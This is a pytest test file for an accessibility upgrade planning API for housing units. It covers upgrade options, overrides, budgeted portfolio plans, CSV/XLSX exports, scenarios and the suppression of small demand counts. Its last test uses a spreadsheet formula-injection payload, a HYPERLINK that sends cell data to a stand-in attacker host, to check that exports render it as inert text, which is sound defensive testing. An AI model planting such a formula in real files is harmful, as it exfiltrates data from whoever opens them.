"""Planning over the API: per-unit options, overrides, portfolio plans, exports, scenarios."""

import csv
import io
import uuid

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.inspections.models import Inspection
from tests.factories import STEP_FREE_BARRIERS, assessed_unit
from tests.helpers import assert_problem

NARROW_DOOR = {"entrance.door_clear_width_mm": 700, "bathroom.turning_space": False}


@pytest.fixture
def manager(as_role):
    return as_role("facility_manager")


@pytest.fixture
def stock(make_user):
    inspector = make_user("inspector")
    return {
        "steps": assessed_unit(inspector, STEP_FREE_BARRIERS, district="Sentrum"),
        "door": assessed_unit(inspector, NARROW_DOOR, district="Idd"),
        "fine": assessed_unit(inspector, district="Idd"),
    }


def test_upgrade_options_for_a_unit(manager, stock):
    url = f"/api/v1/units/{stock['door'].id}/upgrade-options?profile=wheelchair_manual"
    body = manager.get(url).get_json()
    assert body["reachable"] is True
    assert body["measures"] and body["cost"]["typical"] > 0
    assert body["resulting_score"] >= body["score_before"]
    assert "entrance.door_clear_width_mm" in body["removes"]
    assert_problem(manager.get(f"/api/v1/units/{stock['door'].id}/upgrade-options?profile=x"), 422)


def test_override_makes_a_unit_unsuitable_and_back(manager, stock):
    unit = stock["door"]
    url = f"/api/v1/units/{unit.id}/upgrade-options?profile=wheelchair_manual"
    before = manager.get(f"/api/v1/units/{unit.id}/accessibility").get_json()
    assert before["limitations"]["wheelchair_manual"]["class"] == "adaptable"
    option = manager.get(url).get_json()
    for _ in range(10):  # rule out every way to fix it, one option after the other
        if not option["reachable"]:
            break
        for measure in option["measures"]:
            body = {
                "unit_id": unit.id,
                "measure_id": measure["id"],
                "feasible": False,
                "reason": "Bærevegg",
            }
            assert manager.put("/api/v1/feasibility-overrides", json=body).status_code == 200
        option = manager.get(url).get_json()
    assert option["reachable"] is False and option["reason"] == "infeasible"
    after = manager.get(f"/api/v1/units/{unit.id}/accessibility").get_json()
    assert after["limitations"]["wheelchair_manual"]["class"] == "unsuitable"  # follows at once
    for override in manager.get(f"/api/v1/feasibility-overrides?unit_id={unit.id}").get_json():
        assert manager.delete(f"/api/v1/feasibility-overrides/{override['id']}").status_code == 204
    assert manager.get(url).get_json()["reachable"] is True
    restored = manager.get(f"/api/v1/units/{unit.id}/accessibility").get_json()
    assert restored["limitations"]["wheelchair_manual"]["class"] == "adaptable"


def test_portfolio_plan_within_budget_and_exports(manager, stock):
    request = {"budget": 2_000_000, "priorities": {"wheelchair_manual": 1}}
    plan = manager.post("/api/v1/planning/portfolio", json=request).get_json()
    assert plan["spent"]["typical"] <= 2_000_000
    assert plan["steps"], plan
    assert {s["unit_id"] for s in plan["steps"]} <= {stock["steps"].id, stock["door"].id}
    assert plan["upper_bound"] >= plan["value"] > 0
    assert any(t["need"] == "wheelchair_manual" for t in plan["totals"]["overall"])

    csv_response = manager.post("/api/v1/planning/portfolio?format=csv", json=request)
    assert csv_response.data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(csv_response.data.decode("utf-8-sig")), delimiter=";"))
    assert table[0][:3] == ["Rang", "Bolig-ID", "Adresse"]
    assert len(table) - 1 == sum(len(s["measures"]) for s in plan["steps"])
    bought = [(s, ref) for s in plan["steps"] for ref in s["measures"]]
    for row, (step, ref) in zip(table[1:], bought, strict=True):  # names and costs per row
        measure = plan["measures"][ref["id"]]
        assert row[:2] == [str(step["rank"]), str(step["unit_id"])]
        assert row[5:8] == [measure["id"], measure["name"]["nb"], measure["ns3451"]]
        assert row[9:12] == [str(measure["cost"][k]) for k in ("low", "typical", "high")]
    xlsx = manager.post("/api/v1/planning/portfolio?format=xlsx", json=request)
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    assert [c.value for c in sheet[1]][:2] == ["Rang", "Bolig-ID"]
    assert sheet.max_row == len(table)
    assert sheet.cell(2, 8).value == table[1][7]  # NS 3451 code


def test_plan_steps_name_measures_described_once(manager, stock):
    request = {"budget": 10_000_000, "priorities": {"wheelchair_manual": 2, "general": 1}}
    plan = manager.post("/api/v1/planning/portfolio", json=request).get_json()
    refs = [ref for s in plan["steps"] for ref in (*s["measures"], *s["reused_measures"])]
    assert refs and {ref["id"] for ref in refs} == set(plan["measures"])
    units = {stock[k].id: stock[k] for k in stock}
    for step in plan["steps"]:
        unit = units[step["unit_id"]]
        assert step["building_id"] == unit.building_id
        for ref in (*step["measures"], *step["reused_measures"]):
            building = plan["measures"][ref["id"]]["scope"] == "building"
            assert ref["owner"] == (unit.building_id if building else unit.id)
    paid = sum(
        plan["measures"][r["id"]]["cost"]["typical"] for s in plan["steps"] for r in s["measures"]
    )
    assert paid == plan["spent"]["typical"] == plan["steps"][-1]["cumulative_cost"]
    assert all(set(m) >= {"name", "cost", "ns3451", "scope"} for m in plan["measures"].values())
    # The answer has exactly the fields its schema documents.
    schemas = manager.get("/api/openapi.json").get_json()["components"]["schemas"]
    fields = {name: set(schemas[name]["properties"]) for name in schemas}
    assert set(plan) == fields["Plan"]
    assert all(set(s) == fields["PlanStep"] for s in plan["steps"])
    assert all(set(r) == fields["MeasureRef"] for r in refs)
    assert all(set(m) == fields["Measure"] for m in plan["measures"].values())
    assert all(set(t) == fields["NeedTotal"] for t in plan["totals"]["overall"])


def test_zero_budget_buys_nothing_and_bad_priorities_are_named(manager, stock):
    plan = manager.post(
        "/api/v1/planning/portfolio", json={"budget": 0, "priorities": {"wheelchair_manual": 1}}
    ).get_json()
    assert plan["steps"] == []
    body = assert_problem(
        manager.post("/api/v1/planning/portfolio", json={"budget": 1, "priorities": {"flying": 1}}),
        422,
    )
    assert "priorities" in body["errors"]


def _waiting(officer, count, districts, prefix):
    for n in range(count):
        body = {
            "case_reference": f"{prefix}-{n}",
            "needs": [{"limitation": "wheelchair_manual"}],
            "districts": districts,
        }
        assert officer.post("/api/v1/applicants", json=body).status_code == 201


def test_demand_priorities(manager, as_role, stock):
    _waiting(as_role("allocation_officer"), 5, ["Idd"], "P")
    plan = manager.post(
        "/api/v1/planning/portfolio", json={"budget": 5_000_000, "priorities": "demand"}
    ).get_json()
    assert plan["steps"] and all(s["district"] == "Idd" for s in plan["steps"])


def test_small_waiting_counts_never_reach_a_role_without_applicant_access(manager, as_role, stock):
    """value = waiting / (supply + 1): an answer from exact counts gives the counts away.
    A facility manager's plan depends only on counts of 5 or more (as /stats/demand shows)."""
    officer, admin = as_role("allocation_officer"), as_role("admin")
    request = {"budget": 5_000_000, "priorities": "demand"}

    def plans():
        return [
            c.post("/api/v1/planning/portfolio", json=request).get_json() for c in (manager, admin)
        ]

    _waiting(officer, 5, [], "Alle")  # published: 5 waiting with no district wish
    managers_before, admins_before = plans()
    assert managers_before["steps"]  # 5 is published, so it may weigh
    _waiting(officer, 2, ["Idd"], "Idd")  # suppressed in the statistics: 2 waiting in Idd
    managers_after, admins_after = plans()
    assert managers_after == managers_before  # the 2 cannot be recovered by differencing
    assert admins_after["value"] > admins_before["value"]  # who may read applicants: exact
    _waiting(officer, 3, ["Idd"], "Idd2")  # now 5 in Idd: published, and it weighs
    assert manager.post("/api/v1/planning/portfolio", json=request).get_json() != managers_before
    stats = manager.get("/api/v1/stats/demand").get_json()["needs"]["wheelchair_manual"]
    assert stats["Idd"]["waiting_households"] == 5


def test_saved_scenarios_use_suppressed_counts(manager, as_role, stock):
    admin = as_role("admin")
    _waiting(as_role("allocation_officer"), 4, ["Idd"], "S")
    request = {"budget": 5_000_000, "priorities": "demand"}
    saved = admin.post("/api/v1/planning/scenarios", json={"name": "Behov", "request": request})
    scenario = manager.get(f"/api/v1/planning/scenarios/{saved.get_json()['id']}").get_json()
    assert scenario["result"]["value"] == 0 and scenario["result"]["steps"] == []


def test_scenarios_and_compare(manager, as_role, stock):
    small = manager.post(
        "/api/v1/planning/scenarios",
        json={
            "name": "Lite",
            "request": {"budget": 50_000, "priorities": {"wheelchair_manual": 1}},
        },
    ).get_json()
    large = manager.post(
        "/api/v1/planning/scenarios",
        json={
            "name": "Stort",
            "request": {"budget": 5_000_000, "priorities": {"wheelchair_manual": 1}},
        },
    ).get_json()
    officer = as_role("allocation_officer")
    compared = officer.get(
        f"/api/v1/planning/scenarios/compare?a={small['id']}&b={large['id']}"
    ).get_json()
    assert compared["b"]["value"] >= compared["a"]["value"]
    assert_problem(
        officer.post("/api/v1/planning/portfolio", json={"budget": 1, "priorities": "demand"}), 403
    )
    assert_problem(as_role("inspector").get("/api/v1/planning/scenarios"), 403)


def test_done_measure_opens_a_follow_up_inspection(manager, stock):
    unit = stock["door"]
    body = {"unit_id": unit.id, "measure_id": "entrance_door_widening"}
    response = manager.post("/api/v1/planning/done", json=body)
    assert response.status_code == 201, response.get_json()
    follow_up_id = uuid.UUID(response.get_json()["follow_up_inspection_id"])
    follow_up = db.session.get(Inspection, follow_up_id)
    assert follow_up.status == "draft" and follow_up.unit_id == unit.id
    assert any(a.carried_over for a in follow_up.answers)  # answers change only on re-inspection


def test_stale_plan_inputs_are_computed_or_refused(manager, stock, monkeypatch):
    from app.assessments.models import UnitAssessment
    from app.planning import services

    for assessment in db.session.scalars(select(UnitAssessment)):
        assessment.plan_input = None
    db.session.commit()
    request = {"budget": 2_000_000, "priorities": {"wheelchair_manual": 1}}
    monkeypatch.setattr(services, "ON_THE_FLY", 1)
    body = assert_problem(manager.post("/api/v1/planning/portfolio", json=request), 409)
    assert "flask scores refresh-plans" in body["detail"]
    monkeypatch.setattr(services, "ON_THE_FLY", 1000)
    plan = manager.post("/api/v1/planning/portfolio", json=request).get_json()
    assert plan["steps"]  # computed on the fly, then planned


def test_exports_carry_addresses_as_inert_text(manager, make_user):
    address = '=HYPERLINK("http://angriper.example/?d="&A1;"Se plan")'
    unit = assessed_unit(make_user("inspector"), NARROW_DOOR, district="Idd", address=address)
    request = {"budget": 2_000_000, "priorities": {"wheelchair_manual": 1}}
    data = manager.post("/api/v1/planning/portfolio?format=csv", json=request).data
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert next(row[2] for row in table[1:] if row[1] == str(unit.id)) == "'" + address
    xlsx = manager.post("/api/v1/planning/portfolio?format=xlsx", json=request).data
    sheet = load_workbook(io.BytesIO(xlsx)).active
    cells = [row[2] for row in sheet.iter_rows(min_row=2) if row[1].value == unit.id]
    assert cells and cells[0].data_type == "s" and cells[0].value == "'" + address
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
